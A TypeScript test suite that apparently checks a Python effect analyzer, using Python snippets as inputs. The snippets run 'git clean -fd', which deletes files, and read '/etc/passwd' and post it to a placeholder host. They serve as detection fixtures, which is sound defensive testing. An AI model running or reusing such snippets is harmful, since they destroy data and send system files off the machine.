import { describe, expect, it } from "vitest";
import { effectTexts } from "./python-effect-texts.ts";
import { readPython } from "./read.ts";

/** A command that deletes, some lines that change it, and its run. */
function cleaning(lines: string, command: string = "['git', 'clean', '-fd']"): string {
  return `import subprocess, sys\ndry = bool(sys.stdin)\ncmd = ${command}\n${lines}\nsubprocess.run(cmd)`;
}

describe("a list that only one branch changes", () => {
  it.each([
    "if dry: cmd.append('-n')",
    "if dry: cmd += ['-n']",
    "if dry: cmd.insert(2, '-n')",
    "if dry: cmd.extend(['-n'])",
    "if dry: cmd[2] = '-n'",
    "if dry: cmd[2:] = ['-n']",
    "if dry: cmd.append('-x')\nelse: cmd.append('-n')",
    "dry and cmd.append('-n')",
    "cmd.append('-n') if dry else None",
    "for line in sys.stdin: cmd.append('-n')",
    "while len(cmd) < 4: cmd.append('-n')",
    "for _ in [1]:\n  if not dry: break\n  cmd.append('-n')",
    "def add():\n  if not dry: return\n  cmd.append('-n')\nadd()",
    "def add(c):\n  if not dry: return c\n  c.append('-n')\n  return c\ncmd = add(cmd)",
    "try:\n  int(sys.stdin.read())\n  cmd.append('-n')\nexcept ValueError: pass",
    "match dry:\n  case True: cmd.append('-n')",
    "def add(): cmd.append('-n')",
    "other = cmd\nif dry: other.append('-n')",
    "held = {'args': cmd}\nif dry: held['args'].append('-n')",
  ])("may keep its old content: %j", (lines) => {
    expect(effectTexts(cleaning(lines))).toContain("delete ");
  });

  it("may keep its old content in a field of an object", () => {
    const program =
      "import subprocess\nclass Job:\n  def __init__(self): self.cmd = ['git', 'clean', '-fd']\n" +
      "  def run(self, dry):\n    if dry: self.cmd.append('-n')\n    subprocess.run(self.cmd)\nJob().run(input())";
    expect(effectTexts(program)).toContain("delete ");
  });

  it.each([
    ["cmd.append('-n')", "['git', 'clean', '-fd']"],
    ["cmd.insert(2, '-n')", "['git', 'clean', '-fd']"],
    ["if dry: cmd.append('-n')\nelse: cmd.append('--dry-run')\ncmd[2] = '-n'", "['git', 'clean', '-n']"],
    ["if dry: cmd.append('-v')\nfor line in ['a', 'b']: cmd.append(line)", "['pytest', '-q']"],
  ])("keeps items that all branches agree on: %j", (lines, command) => {
    const kinds = readPython(cleaning(lines, command)).effects.map(({ kind }) => kind);
    expect(new Set(kinds)).toEqual(new Set(["execute"]));
  });

  it("keeps the old entries of a dictionary as alternatives", () => {
    const program =
      "import subprocess\nhow = {'cmd': 'git clean -fd'}\nif input(): how['cmd'] = 'ls'\nsubprocess.run(how['cmd'], shell=True)";
    expect(effectTexts(program)).toEqual(expect.arrayContaining(["delete ", "list "]));
  });
});

describe("an object of a library whose methods are unknown", () => {
  /** A program that sends an object after lines that may put a secret into it. */
  const sent = (lines: string): readonly string[] => {
    const program = `import requests, sys\nform = requests.Request()\nkey = "none"\n${lines}\nrequests.post("https://a.b", data=form)`;
    const network = readPython(program).effects.find(({ kind }) => kind === "network");
    return network?.kind === "network" ? network.from.map(({ kind }) => kind) : [];
  };

  it("keeps the data that it was given, however often", () => {
    const key = 'key = open("/etc/passwd").read()';
    expect(sent(`${key}\nform.add(key)`)).toEqual(["file"]);
    expect(sent(`for name in ["a", "b"]:\n  form.add(key)\n  ${key}`)).toEqual(["file"]);
    const many = Array.from({ length: 30 }, (_, nth) => `form.add(open("data/${nth}").read())`).join("\n");
    expect(sent(`${many}\n${key}\nform.add(key)`)).toContain("unknown");
  });

  it("does not have what only a path gave it that has ended", () => {
    expect(sent('if len(sys.argv) > 9:\n  form.add(open("/etc/passwd").read())\n  sys.exit()')).toEqual([]);
  });
});

describe("removing items from a list", () => {
  it.each([
    ["cmd.remove('-n')", "['git', 'clean', '-fd', '-n']"],
    ["cmd.pop()", "['git', 'clean', '-fd', '-n']"],
    ["cmd.pop(3)", "['git', 'clean', '-fd', '-n']"],
    ["list.remove(cmd, '-n')", "['git', 'clean', '-fd', '-n']"],
    ["del cmd[-1]", "['git', 'clean', '-fd', '-n']"],
    ["del cmd[3:]", "['git', 'clean', '-fd', '-n']"],
    ["cmd[3:] = []", "['git', 'clean', '-fd', '-n']"],
    ["cmd.clear()\ncmd.extend(['git', 'clean', '-fd'])", "['git', 'clean', '-n']"],
    ["cmd.reverse()", "['-fd', 'clean', 'git']"],
  ])("removes the item: %s", (lines, command) => {
    expect(effectTexts(cleaning(lines, command)).some((text) => text.startsWith("delete"))).toBe(true);
  });

  it.each([["cmd.__delitem__(3)", "['git', 'clean', '-fd', '-n']"]])(
    "treats a command whose words have an unknown order as unknown: %s",
    (lines, command) => {
      expect(effectTexts(cleaning(lines, command))).toContain("anything");
    },
  );
});
